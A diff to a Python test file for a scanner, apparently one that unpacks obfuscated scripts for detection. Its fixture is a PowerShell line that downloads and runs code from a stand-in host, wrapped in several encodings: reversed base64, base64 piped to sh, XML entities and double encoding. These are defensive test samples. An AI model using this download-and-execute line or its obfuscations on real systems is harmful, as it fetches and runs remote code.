@@ -9,14 +9,19 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from support.parts import contents, named
 
+from clearward.core.limits import Limits
 from clearward.core.part import Part
-from clearward.core.reader import Reader
+from clearward.core.reader import Cursor, Reader
+from clearward.engine.scan import Engine
 from clearward.formats.scripts.blobs import unescaped
 from clearward.formats.unpack import scripts
+from clearward.rules.compile import compile_rules
 
 TEXT = (
     b"Invoke-Expression (New-Object Net.WebClient).DownloadString('http://a.example/x')"
 )
+
+NO_RULES = compile_rules([], test_file=False)[0]
 
 
 def deflated(data: bytes) -> bytes:
@@ -27,7 +32,7 @@ def deflated(data: bytes) -> bytes:
 def parts(text: bytes) -> list[tuple[bytes, bytes]]:
     reader = Reader.of(text)
     assert scripts.recognises(text[:65536], reader)
-    return named(scripts.unpack(reader))
+    return named(scripts.unpack(Cursor(reader)))
 
 
 PACKED = (
@@ -66,6 +71,8 @@ BLOBS = [
     ),
     ("backwards", b"x = '" + base64.b64encode(TEXT + b".")[::-1] + b"'"),
     ("lines", b"base64 -d <<E | sh\n" + base64.encodebytes(TEXT) + b"E\n"),
+    ("entities", b'<a b="' + B64[:40] + b"&#xA;" + B64[40:] + b'"/>'),
+    ("twice", b"decode(decode('" + base64.b64encode(B64) + b"'))"),
     (
         "pieces",
         b"x = '"
@@ -151,6 +158,7 @@ def test_utf_16_is_read_as_letters() -> None:
         b"From: a@a.example\r\nTo: b@b.example\r\nSubject: c\r\n\r\n" + B64,
         b"%PDF-1.4\n" + B64,
         b"plain words",
+        B64 + b"\n",
         b"",
     ],
 )
@@ -160,7 +168,7 @@ def test_what_is_no_script_or_opened_otherwise_is_left(text: bytes) -> None:
 
 def test_endless_nesting_of_decoders_is_linear() -> None:
     text = b'"a"+"b"' * 50_000 + b"Chr(65)&" * 20_000 + b"[char]65+" * 20_000
-    assert contents(scripts.unpack(Reader.of(text)))
+    assert contents(scripts.unpack(Cursor(Reader.of(text))))
 
 
 @settings(max_examples=300, deadline=None)
@@ -176,7 +184,7 @@ def test_endless_nesting_of_decoders_is_linear() -> None:
 )
 def test_anything_gives_parts_of_bounded_size(pieces: list[bytes]) -> None:
     data = b"".join(pieces)
-    for item in scripts.unpack(Reader.of(data)):
+    for item in scripts.unpack(Cursor(Reader.of(data))):
         assert isinstance(item, Part)
         assert sum(map(len, contents([item]))) <= 1100 * len(data) + 1024
 
@@ -196,3 +204,10 @@ def test_anything_gives_parts_of_bounded_size(pieces: list[bytes]) -> None:
 )
 def test_escapes_stand_for_bytes(text: bytes, bytes_: bytes) -> None:
     assert unescaped(text) == bytes_
+
+
+def test_damage_in_what_was_guessed_is_not_said() -> None:
+    engine_says = Engine(NO_RULES, Limits(), lambda: 0.0)
+    cut = base64.b64encode(gzip.compress(TEXT * 99)[:-20])
+    for text in (b"x = '" + cut + b"'", b"x = '" + B64 + b"'"):
+        assert engine_says.scan(Reader.of(text)).reasons == 0
